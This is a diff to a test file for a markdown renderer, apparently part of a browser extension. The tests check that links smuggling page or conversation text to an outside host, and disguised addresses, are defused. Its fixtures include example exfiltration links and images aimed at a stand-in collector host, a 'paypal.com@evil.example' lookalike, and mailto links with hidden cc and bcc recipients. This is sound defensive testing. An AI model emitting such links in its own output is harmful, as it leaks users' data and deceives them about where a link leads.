@@ -180,20 +180,23 @@ const QUESTION = 'Which oil did the lamp burn each winter, and how much of it?';
 const KNOWN = `${QUESTION}\n${PASSAGE}`;
 const RUN_41 = 'lamp at Bellhaven burned 412 litres of co';
 const RUN_40 = RUN_41.slice(0, 40);
-const withKnown = (text, known = KNOWN) => {
+// 81 characters and more of the passage (a path is held to more than 80).
+const RUN_81 = 'Bellhaven Light stands on a basalt stack eleven kilometres off the Marrow coast. The lamp';
+const withKnown = (text, known = KNOWN, urls = []) => {
   const div = document.createElement('div');
-  div.append(renderMarkdown(text, { sources: [], known, document }));
+  div.append(renderMarkdown(text, { sources: [], known, urls, document }));
   return div;
 };
 
-test('a link whose address holds more than 40 characters of the page or conversation is text, not a link', () => {
+test('a link whose host, query or fragment holds more than 40 characters of known text, or its path more than 80, is text', () => {
   assert.equal(RUN_41.length, 41);
   const encoded = encodeURIComponent(RUN_41.toUpperCase()).replace(/%20/g, '+');
   const cases = [
     `[log](https://collect.example/log?d=${encoded}&x=1)`, // query, other case, + for spaces
     `[log](https://collect.example/log?d=${encodeURIComponent(encodeURIComponent(RUN_41))})`, // encoded twice
     `[log](<https://collect.example/#${QUESTION}>)`, // fragment: the question
-    `[log](https://collect.example/p/${RUN_41.replace(/ /g, '_')})`, // path, _ for spaces
+    `[log](https://collect.example/p/${RUN_81.replace(/ /g, '_')})`, // path, _ for spaces
+    `[log](https://collect.example/${RUN_81.replace(/ /g, '-').replace('-stack-', '/stack/')})`, // across a /
     `[log](https://${RUN_41.replace(/ /g, '-')}.collect.example/)`, // a host name
     `![log](https://collect.example/i.png?${encodeURIComponent(RUN_41)})`, // an image's address
   ];
@@ -554,4 +557,24 @@ test('extension/vendor/marked is the pinned marked package, unmodified', () => {
   const vendored = readFileSync(new URL('../../extension/vendor/marked/marked.esm.js', import.meta.url));
   assert.ok(vendored.equals(fromPackage), 'extension/vendor/marked/marked.esm.js differs from node_modules/marked');
   assert.match(vendored.subarray(0, 200).toString(), new RegExp(`marked v${pinned.replace(/\./g, '\\.')} `));
+});
+
+test('an address with a user name, a long host, or mailto: recipients shows where it really goes', () => {
+  const lie = 'https://paypal.com@evil.example/login';
+  assert.equal(render(`[${lie}](${lie}) <${lie}>`).textContent, `${lie} (evil.example) ${lie} (evil.example)`);
+  const long = `${'a'.repeat(70)}.secure-login.evil.example`;
+  assert.equal(render(`[sign in](https://${long}/)`).querySelector('.md-link-host').textContent, ` (…${long.slice(-79)})`);
+  assert.equal(render('[me@example.org](mailto:me@example.org?cc=spy@evil.example&BCC=a@evil.example,b@evil.example)').textContent,
+    'me@example.org (me@example.org, cc: spy@evil.example, bcc: a@evil.example, bcc: b@evil.example)');
+});
+
+test('a page title in a link\'s path stays a link; the session\'s own addresses always do', () => {
+  const known = `${KNOWN}\nList of tallest buildings in the United States`;
+  const wiki = 'https://en.wikipedia.org/wiki/List_of_tallest_buildings_in_the_United_States';
+  assert.equal(withKnown(`[tallest](${wiki})`, known).querySelectorAll('a').length, 1);
+  const own = `https://news.example/${RUN_81.replace(/ /g, '-')}`;
+  assert.equal(withKnown(`[story](${own})`).querySelector('a'), null);
+  assert.equal(withKnown(`[story](${own})`, KNOWN, [own]).querySelectorAll('a').length, 1);
+  const source = [{ id: '1', kind: 'web', title: 'Story', url: own }];
+  assert.equal(renderMarkdown(`[story](${own})`, { sources: source, known: KNOWN, document }).querySelectorAll('a').length, 1);
 });
